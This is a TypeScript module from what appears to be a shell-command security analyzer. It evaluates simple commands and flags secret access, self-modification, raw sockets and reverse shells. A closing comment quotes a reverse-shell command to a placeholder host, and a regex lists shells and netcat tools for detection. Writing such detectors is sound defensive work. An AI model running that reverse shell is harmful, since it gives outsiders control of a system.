/** A simple command: assignments, words, redirections, and what is then run. */
import { type Stream, UNKNOWN } from "../report.ts";
import { touchesState } from "../self.ts";
import { judgeVariable, setsVariable } from "./environment/index.ts";
import { note, noteExactly } from "./inquiry.ts";
import { nameOf } from "./names.ts";
import type { Assignment, Command, Word } from "./parse.ts";
import { redirect } from "./redirects.ts";
import { run, type Setting } from "./run.ts";
import { flagsOf, mixed, type Value } from "./scope.ts";
import { expandInto, expandOne, type Fields, type Place, runInside } from "./words.ts";

export function simple(
  node: Command,
  place: Place,
  settingOf: (place: Place, span: string, stdin: Stream | undefined, from: Stream | undefined) => Setting,
): Stream | undefined {
  const { inquiry, scope, source } = place;
  const span = source.slice(node.pos, node.end);
  const fields = wordsOf(node, place);
  const { prefix } = node;
  const redirects = isRedirected(node) ? node.redirects : NO_REDIRECTS;
  const assigned = prefix.length > 0 ? assignmentsOf(prefix, place) : NONE;
  const redirected =
    redirects.length > 0
      ? redirect(redirects, scope.stdin, { inquiry, scope, source, output: place.output, command: fields.texts[0] ?? "" }, span)
      : undefined;
  const stdin = redirected ? redirected.stdin : scope.stdin;
  if (redirected?.socket) socket(fields.texts, place, span);
  if (fields.texts.length === 0) {
    for (const [name, value] of assigned) {
      scope.vars.set(name, value);
      setsVariable(name, value.text, { inquiry, scope, span });
      if (touchesState(name) || touchesState(value.text)) noteExactly(inquiry, "countersign.self", span);
    }
    note(inquiry, "shell.builtin", span);
    return undefined;
  }
  const setting = settingOf(place, span, stdin, fields.from);
  if (assigned.length > 0) {
    const prefixed = assigned.map(([name, { text }]) => `${name}=${text}`);
    for (const each of prefixed) judgeVariable(each, setting);
    inquiry.assigned = prefixed;
  }
  const out = run(fields.texts, setting);
  if (!redirected) return out;
  if (out?.exposes && redirected.away && redirected.targets.length > 0) noteExactly(inquiry, "secret.access", span);
  for (const target of redirected.targets) scope.files.set(target, mixed(flagsOf(stdin), out) ?? {});
  return redirected.away ? undefined : out;
}

const NO_REDIRECTS: Command["redirects"] = [];
/** A cheap look: most commands have none. */
function isRedirected({ prefix, suffix }: Command): boolean {
  for (const part of suffix) if (part.type !== "Word" && part.type !== "Assignment") return true;
  for (const part of prefix) if (part.type !== "Assignment") return true;
  return false;
}

const NONE: readonly (readonly [string, Value])[] = [];

function wordsOf({ name, suffix }: Command, place: Place): Fields {
  const fields: Fields = { texts: [], from: undefined };
  if (name) expandInto(fields, name, place);
  for (const part of suffix) {
    if (part.type === "Word") expandInto(fields, part, place);
    else if (part.type === "Assignment") {
      const { text, from } = assignedValue(part, place);
      fields.from = mixed(fields.from, from);
      fields.texts.push(`${part.name}${part.append ? "+" : ""}=${text}`);
    }
  }
  return fields;
}

function assignmentsOf(prefix: Command["prefix"], place: Place): readonly (readonly [string, Value])[] {
  return prefix.flatMap((part): [string, Value][] => {
    if (part.type !== "Assignment") return [];
    const value = assignedValue(part, place);
    const before = part.append ? (place.scope.vars.get(part.name)?.text ?? UNKNOWN) : "";
    if (part.append && value.items) return [[part.name, { text: UNKNOWN, from: value.from }]];
    return [[part.name, part.append ? { text: before + value.text, from: value.from } : value]];
  });
}

/** `$a` of an array is its first element. */
function assignedValue({ value, index }: Assignment, place: Place): Value {
  if (index) runInside(index, place);
  if (value.type === "Word") {
    const { text, from } = expandOne(value as Word, place);
    return { text: index ? UNKNOWN : text, from };
  }
  const fields: Fields = { texts: [], from: undefined };
  for (const element of value.elements) expandInto(fields, element, place);
  return { text: fields.texts[0] ?? "", from: flagsOf(fields.from), items: fields.texts };
}

const SHELLS = /^(?:(?:ba|z|da|k|a|fi)?sh|python[\d.]*|perl|ruby|php|nc|ncat|netcat)$/;

/** `bash -i >& /dev/tcp/HOST/PORT`: a shell that somebody else types into. */
function socket(words: readonly string[], { inquiry, scope }: Place, span: string): void {
  const [first = ""] = words;
  if (first === "exec") scope.connected = true;
  noteExactly(inquiry, words.some((word) => SHELLS.test(nameOf(word))) ? "net.reverse_shell" : "net.raw_socket", span);
}
